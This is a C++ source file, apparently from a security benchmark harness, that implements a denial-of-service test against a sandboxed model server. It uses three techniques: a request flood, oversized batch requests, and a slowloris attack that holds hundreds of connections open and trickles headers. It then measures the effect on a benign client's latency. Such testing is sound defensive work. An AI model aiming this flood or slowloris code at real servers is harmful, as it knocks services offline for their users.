// denial-of-service: a second client against the serving path while a benign client keeps
// asking. Keys: technique = flood (clients keep-alive connections sending the model's request as
// fast as answered) | oversized (clients sending the largest request the server accepts) |
// slowloris (clients connections each holding a request that never ends); clients (default 8;
// slowloris 256), duration (default "5s"), max_slowdown (default 5), max_error_rate (default
// 0.1). Objective and evidence are the benign client's, measured by the harness on fresh
// connections: its p50 latency during the attack over its p50 just before it, and its error rate.
// Nothing in the sandbox is the attacker, so no enforcer operation can refuse it: what the
// target's limits (cpus, pids) do to the figures is what the case measures.
#include <sys/socket.h>

#include <algorithm>
#include <atomic>
#include <thread>

#include "KindSupport.h"
#include "armorbench/attacks/Objectives.h"
#include "armorbench/base/Interrupt.h"
#include "armorbench/workload/OipClient.h"

namespace armorbench::attacks {
namespace {
namespace fs = std::filesystem;
using Clock = std::chrono::steady_clock;
using nlohmann::json;

constexpr int kBaselineProbes = 10;
constexpr auto kProbeTimeout = std::chrono::seconds(5);
constexpr std::int64_t kMaxBatch = 4096;           // model_server.py's MAX_BATCH
constexpr std::size_t kOversizedValues = 1 << 20;  // under its MAX_ELEMENTS (1 << 22)

struct DosSpec {
  std::string technique;
  int clients = 8;
  std::chrono::milliseconds duration{5000};
  double max_slowdown = 5.0;
  double max_error_rate = 0.1;
};

double median_ms(std::vector<double> samples) {
  if (samples.empty()) return 0;
  std::sort(samples.begin(), samples.end());
  const std::size_t n = samples.size();
  return n % 2 ? samples[n / 2] : (samples[n / 2 - 1] + samples[n / 2]) / 2;
}

// The model's request with its batch dimension grown until it holds about kOversizedValues
// values (at most kMaxBatch rows): the largest request the server accepts, not one it refuses.
json oversized(const json& inputs) {
  json grown = inputs;
  for (json& tensor : grown) {
    const auto shape = tensor["shape"].get<std::vector<std::int64_t>>();
    const auto& data = tensor["data"];
    if (shape.empty() || shape[0] < 1 || data.empty()) continue;
    const std::size_t row = data.size() / static_cast<std::size_t>(shape[0]);
    const std::int64_t rows = std::clamp<std::int64_t>(
        static_cast<std::int64_t>(kOversizedValues / std::max<std::size_t>(row, 1)), shape[0],
        kMaxBatch);
    json values = json::array();
    for (std::int64_t r = 0; r < rows; ++r)
      for (std::size_t k = 0; k < row; ++k) values.push_back(data[k]);
    tensor["shape"][0] = rows;
    tensor["data"] = std::move(values);
  }
  return grown;
}

class DenialOfService final : public Attack {
 public:
  explicit DenialOfService(DosSpec spec) : spec_(std::move(spec)) {}

  void prepare(const ModelArtifacts& model, const fs::path&, const std::string&,
               WorkloadSpec&) override {
    model_name_ = model.name;
    request_ = first_request(model);
  }

  void while_serving(AttackSurface& surface) override {
    served_ = true;
    std::vector<double> baseline;
    int baseline_errors = 0;
    for (int i = 0; i < kBaselineProbes; ++i) probe(surface, baseline, baseline_errors);
    std::atomic<bool> stop{false};
    std::atomic<std::uint64_t> sent{0}, failed{0};
    std::vector<std::thread> attackers;
    // Joined on every path (a probe interrupted by SIGINT or the step's limit included).
    struct Joiner {
      std::atomic<bool>& stop;
      std::vector<std::thread>& threads;
      ~Joiner() {
        stop = true;
        for (std::thread& t : threads) t.join();
      }
    } joiner{stop, attackers};
    const json big = spec_.technique == "oversized" ? oversized(request_) : request_;
    if (spec_.technique == "slowloris")
      // One thread opens and holds the connections (a connect can wait for room in the
      // server's backlog) and feeds each a header line a second; they close when it ends.
      attackers.emplace_back([&] {
        std::vector<UniqueFd> held;
        const std::string start =
            "POST /v2/models/" + model_name_ +
            "/infer HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n";
        auto next_trickle = Clock::now() + std::chrono::seconds(1);
        while (!stop) {
          if (held.size() < static_cast<std::size_t>(spec_.clients)) {
            try {
              UniqueFd fd = surface.connect_inference();
              if (::send(fd.get(), start.data(), start.size(), MSG_NOSIGNAL) <= 0)
                throw harness_error("send");
              held.push_back(std::move(fd));
              ++sent;
            } catch (...) {
              ++failed;
              std::this_thread::sleep_for(std::chrono::milliseconds(50));
            }
          } else {
            std::this_thread::sleep_for(std::chrono::milliseconds(50));
          }
          if (Clock::now() >= next_trickle) {
            for (const UniqueFd& fd : held)
              ::send(fd.get(), "X-a: b\r\n", 8, MSG_NOSIGNAL | MSG_DONTWAIT);
            next_trickle = Clock::now() + std::chrono::seconds(1);
          }
        }
      });
    for (int i = 0; spec_.technique != "slowloris" && i < spec_.clients; ++i) {
      attackers.emplace_back([&, big] {
        while (!stop) {
          try {
            // A short limit: an attacker gives up on an answer (and asks again) rather than
            // hold the attack's end for a slow one.
            OipClient client(surface.connect_inference(), std::chrono::seconds(3));
            while (!stop) {
              client.infer_tensors(model_name_, big);
              ++sent;
            }
          } catch (...) {
            ++failed;
            std::this_thread::sleep_for(std::chrono::milliseconds(20));
          }
        }
      });
    }
    std::vector<double> during;
    int errors = 0, probes = 0;
    const auto end = Clock::now() + spec_.duration;
    while (Clock::now() < end) {
      check_interrupted();
      probe(surface, during, errors);
      ++probes;
    }
    stop = true;
    judge(baseline, baseline_errors, during, errors, probes, sent, failed);
  }

  ObjectiveStatus observe(AttackSurface&) override {
    if (!served_) {
      ObjectiveStatus status;
      status.detail = "the model server never became ready: there was no serving path to attack";
      return status;
    }
    return status_;
  }

  json objective() const override {
    return {{"type", "availability"},
            {"technique", spec_.technique},
            {"max_slowdown", spec_.max_slowdown},
            {"max_error_rate", spec_.max_error_rate}};
  }

 private:
  // One benign request on a fresh connection: its latency, or an error.
  void probe(AttackSurface& surface, std::vector<double>& latencies, int& errors) {
    const auto start = Clock::now();
    try {
      OipClient client(surface.connect_inference(), kProbeTimeout);
      client.infer_tensors(model_name_, request_);
      latencies.push_back(std::chrono::duration<double, std::milli>(Clock::now() - start).count());
    } catch (const Interrupted&) {
      throw;
    } catch (const Error&) {
      ++errors;
    }
  }

  void judge(const std::vector<double>& baseline, int baseline_errors,
             const std::vector<double>& during, int errors, int probes, std::uint64_t sent,
             std::uint64_t failed) {
    const double before = median_ms(baseline);
    const double after = during.empty() ? 0 : median_ms(during);
    const double error_rate = probes ? static_cast<double>(errors) / probes : 0;
    const double slowdown = before > 0 && after > 0 ? after / before : 0;
    const bool slowed = !during.empty() && slowdown >= spec_.max_slowdown;
    const bool failing = error_rate >= spec_.max_error_rate;
    status_.reached = before > 0 && (slowed || failing);
    char figures[256];
    std::snprintf(figures, sizeof figures,
                  "benign p50 %.1f ms before, %.1f ms during the %s (x%.1f), %d/%d requests failed",
                  before, after, spec_.technique.c_str(), slowdown, errors, probes);
    status_.detail =
        before <= 0       ? std::string("no benign request was answered before the attack started")
        : status_.reached ? std::string("the serving path was denied: ") + figures
                          : std::string("the serving path held: ") + figures + " (limits x" +
                                std::to_string(spec_.max_slowdown).substr(0, 4) + ", " +
                                std::to_string(spec_.max_error_rate).substr(0, 4) + ")";
    status_.evidence.push_back({"objective",
                                status_.detail,
                                {{"baseline_p50_ms", before},
                                 {"baseline_errors", baseline_errors},
                                 {"attack_p50_ms", after},
                                 {"slowdown", slowdown},
                                 {"probes", probes},
                                 {"errors", errors},
                                 {"error_rate", error_rate},
                                 // requests answered (flood, oversized) or connections held
                                 {"attacker_sent", sent},
                                 {"attacker_failures", failed},
                                 {"clients", spec_.clients},
                                 {"duration_ms", spec_.duration.count()}}});
  }

  DosSpec spec_;
  std::string model_name_;
  json request_;
  bool served_ = false;
  ObjectiveStatus status_;
};

class DenialOfServiceDefinition final : public DefinitionBase {
 public:
  explicit DenialOfServiceDefinition(DosSpec spec)
      : DefinitionBase("denial-of-service"), spec_(std::move(spec)) {}
  json parameters() const override {
    return {{"technique", spec_.technique},
            {"clients", spec_.clients},
            {"duration_ms", spec_.duration.count()}};
  }
  json objective() const override {
    return {{"type", "availability"},
            {"what", "the benign client's p50 latency or error rate during the attack"},
            {"max_slowdown", spec_.max_slowdown},
            {"max_error_rate", spec_.max_error_rate}};
  }
  // A client of the serving path runs nothing in the sandbox: no operation to refuse.
  std::vector<ExpectedOperation> expected_operations() const override { return {}; }
  std::unique_ptr<Attack> instantiate(const AttackContext&, const ResourceLimits&) const override {
    return std::make_unique<DenialOfService>(spec_);
  }

 private:
  DosSpec spec_;
};

std::shared_ptr<AttackDefinition> parse(TomlTable& table, const AttackParseContext&) {
  DosSpec spec;
  const auto technique = table.choice("technique", {"flood", "oversized", "slowloris"});
  if (!technique)
    throw table.error_at("", "denial-of-service needs 'technique' (flood, oversized, slowloris)");
  spec.technique = *technique;
  if (spec.technique == "slowloris") spec.clients = 256;
  if (auto clients = table.integer("clients", 1, 4096)) spec.clients = static_cast<int>(*clients);
  if (auto duration = table.duration("duration")) {
    if (*duration < std::chrono::seconds(1) || *duration > std::chrono::minutes(10))
      throw table.error_at("duration", "duration must be between 1s and 10m");
    spec.duration = *duration;
  }
  if (auto slowdown = table.number("max_slowdown", 1.0, 1e6)) spec.max_slowdown = *slowdown;
  if (auto rate = table.number("max_error_rate", 0.0, 1.0)) spec.max_error_rate = *rate;
  return std::make_shared<DenialOfServiceDefinition>(std::move(spec));
}

}  // namespace

AttackKindEntry denial_of_service_kind() {
  return {"denial-of-service", &parse,
          "A second client floods, starves or stalls the serving path while a benign client asks",
          "CWE-400", 5.3};
}

}  // namespace armorbench::attacks
